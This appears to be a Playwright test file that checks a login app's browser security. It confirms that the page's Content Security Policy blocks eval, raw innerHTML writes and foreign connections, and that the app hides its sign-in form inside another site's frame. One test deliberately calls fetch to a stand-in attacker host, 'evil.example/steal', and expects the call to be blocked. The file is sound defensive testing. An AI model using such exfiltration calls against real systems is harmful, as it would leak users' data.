// The browser enforces what the build promises (issue 7). These tests provoke violations on
// purpose, so they use a context of their own, outside the fixtures' page watch.
import { expect, test } from './fixtures';
import { urls } from './helpers';

test('Chromium enforces the built page\'s CSP: eval, an innerHTML write and a foreign connection are refused', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const violations: string[] = [];
  page.on('console', (m) => /Content Security Policy|Trusted/i.test(m.text()) && violations.push(m.text()));
  await page.goto(`${urls.spa}/login`);
  await expect(page.getByRole('button', { name: 'Sign in with password' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const attempt = async (f: () => unknown) => {
      try {
        await f();
        return 'allowed';
      } catch (err) {
        return (err as Error).name;
      }
    };
    return {
      // DevTools' own evaluate may always eval; a timer callback runs as the page's code would.
      eval: await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('1 + 1');
            resolve('allowed');
          } catch (err) {
            resolve((err as Error).name);
          }
        }),
      ),
      innerHTML: await attempt(() => {
        document.body.innerHTML = '<b>x</b>';
      }),
      fetch: await attempt(() => fetch('https://evil.example/steal')),
    };
  });
  expect(outcome).toEqual({ eval: 'EvalError', innerHTML: 'TypeError', fetch: 'TypeError' });
  expect(violations.join('\n')).toMatch(/unsafe-eval|TrustedHTML|connect-src/);
  await context.close();
});

test('inside another site\'s frame the app shows no sign-in form, only a way to open it on its own', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.setContent(`<iframe src="${urls.spa}/login" width="600" height="400"></iframe>`);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByTestId('app/framed-open')).toBeVisible();
  await expect(frame.getByTestId('app/framed-open')).toHaveAttribute('target', '_top');
  await expect(frame.locator('form')).toHaveCount(0);
  await context.close();
});

test('npm start\'s dev server serves the same app against the same Kratos', async ({ page }) => {
  await page.goto(`${urls.spaDev}/login`);
  await expect(page.getByRole('button', { name: 'Sign in with password' })).toBeVisible();
  await expect(page.getByRole('link', { name: 'Create account' })).toHaveAttribute('href', '/registration');
});
